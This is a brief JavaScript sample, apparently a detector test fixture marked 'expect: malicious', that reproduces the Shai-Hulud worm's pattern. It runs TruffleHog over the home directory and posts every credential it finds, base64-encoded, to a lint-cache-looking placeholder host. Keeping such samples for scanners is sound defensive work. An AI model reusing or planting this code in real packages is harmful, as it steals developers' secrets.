// expect: malicious
// source: Shai-Hulud (September 2025) and its imitators: TruffleHog is run over the home directory and what
// it finds -- every credential on the machine -- is posted to a host the code names.
const { execFile } = require('child_process'); const os = require('os'); const path = require('path'); const https = require('https');
const bin = path.join(os.homedir(), '.cache', 'tools', 'trufflehog');
execFile(bin, ['filesystem', os.homedir(), '--json', '--no-update'], { maxBuffer: 1 << 28 }, (err, stdout) => {
  const req = https.request({ hostname: 'lint-cache-sync.example', path: '/v1/c', method: 'POST' });
  req.end(Buffer.from(String(stdout)).toString('base64'));
});
